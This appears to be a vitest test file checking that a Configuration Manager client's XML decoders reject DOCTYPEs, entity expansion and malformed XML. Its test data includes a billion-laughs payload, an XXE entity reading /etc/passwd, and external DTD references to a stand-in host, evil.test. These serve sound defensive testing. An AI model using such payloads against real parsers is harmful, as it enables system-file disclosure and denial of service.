// agent/wire/ccm: the Configuration Manager client messages: DOCTYPE, entities and malformed
// XML refused in every decoder.

import { describe, expect, it } from 'vitest';
import {
  buildMessage, decodeHeader, decodeMpKeyInformation, decodeMpList, decodePolicyBody, decodeReplyAssignments,
  decodeReport, encodeMessage, openMessage,
} from '../agent/wire/ccm/index.js';
import { fx, expectWire } from './helpers/ccm-fixtures.js';

// ==== XML safety ==========================================================================================

describe('XML: DOCTYPE and entities refused', () => {
  const LAUGHS = '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]><Report><ReportHeader>&lol2;</ReportHeader></Report>';
  const XXE = '<!DOCTYPE Msg [<!ENTITY xxe SYSTEM "file:///etc/passwd">]><Msg><ID>&xxe;</ID><Body Length="2"/></Msg>';

  it('DOCTYPE with internal or external entities, in every decoder', () => {
    expectWire(() => decodeReport(LAUGHS), 'SUCA_ERR_WIRE_XML', 'Report');
    expectWire(() => decodeHeader(XXE), 'SUCA_ERR_WIRE_XML', 'Msg');
    expectWire(() => decodeHeader('<!doctype Msg><Msg><ID>1</ID><Body Length="2"/></Msg>'), 'SUCA_ERR_WIRE_XML', 'Msg');
    expectWire(() => decodeReplyAssignments('<!DOCTYPE ReplyAssignments SYSTEM "http://evil.test/x.dtd"><ReplyAssignments/>'), 'SUCA_ERR_WIRE_XML', 'ReplyAssignments');
    expectWire(() => decodePolicyBody('<!DOCTYPE Policy [<!ENTITY % p SYSTEM "http://evil.test/p">%p;]><Policy/>', { updateIndexOf: () => undefined }), 'SUCA_ERR_WIRE_XML', 'Policy');
    expectWire(() => decodeMpList('<?xml version="1.0"?>\n<!DOCTYPE MPList []>\n<MPList/>'), 'SUCA_ERR_WIRE_XML', 'MPList');
  });

  it('entity references are never expanded: only the predefined five and character references', () => {
    expectWire(() => decodeMpKeyInformation('<MPKEYINFORMATION><FQDN>&xxe;</FQDN><SITECODE>PS1</SITECODE></MPKEYINFORMATION>'), 'SUCA_ERR_WIRE_XML', 'MPKEYINFORMATION/FQDN');
    expectWire(() => decodeMpList('<MPList><MP Name="&lol;"/></MPList>'), 'SUCA_ERR_WIRE_XML', 'MPList/MP[0]/@Name');
    expectWire(() => decodeMpList('<MPList><MP Name="a&b"/></MPList>'), 'SUCA_ERR_WIRE_XML', 'MPList/MP[0]/@Name');
    expectWire(() => decodeMpList('<MPList><MP Name="&#0;"/></MPList>'), 'SUCA_ERR_WIRE_XML');
    expect(decodeMpList('<MPList><MP Name="&lt;&amp;&gt;&quot;&apos;&#65;&#x42;"/></MPList>').mps[0]!.name).toBe('<&>"\'AB');
  });

  it('malformed XML and a DOCTYPE inside a whole message', () => {
    expectWire(() => decodeHeader('<Msg><ID>1</ID>'), 'SUCA_ERR_WIRE_XML', 'Msg');
    expectWire(() => decodeHeader('<Msg><ID>1</Msg></ID>'), 'SUCA_ERR_WIRE_XML', 'Msg');
    expectWire(() => decodeReport('<Report/><Report/>'), 'SUCA_ERR_WIRE_XML', 'Report');
    expectWire(() => decodeReport('<Report a="1" a="2"/>'), 'SUCA_ERR_WIRE_XML', 'Report');
    expectWire(() => decodeReport('just text'), 'SUCA_ERR_WIRE_XML', 'Report');
    const m = encodeMessage({ header: XXE, body: '<A/>' });
    expectWire(() => openMessage(m.contentType, m.payload), 'SUCA_ERR_WIRE_XML', 'Msg');
    const n = buildMessage({ header: decodeHeader(fx('msg-header-relay.xml')), body: LAUGHS });
    const o = openMessage(n.contentType, n.payload);
    expectWire(() => decodeReport(o.body), 'SUCA_ERR_WIRE_XML', 'Report');
  });

  it("openMessage checks the header's Body range against the body", () => {
    const m = encodeMessage({ header: '<Msg><ID>{1}</ID><Body Type="ByteRange" Length="11" Offset="0" /></Msg>', body: '<A/>' });
    expectWire(() => openMessage(m.contentType, m.payload), 'SUCA_ERR_WIRE_FIELD', 'Msg/Body/@Length');
    const ok = encodeMessage({ header: '<Msg><ID>{1}</ID><Body Type="ByteRange" Length="10" Offset="0" /></Msg>', body: '<A/>' });
    expect(openMessage(ok.contentType, ok.payload).body).toBe('<A/>');
  });
});
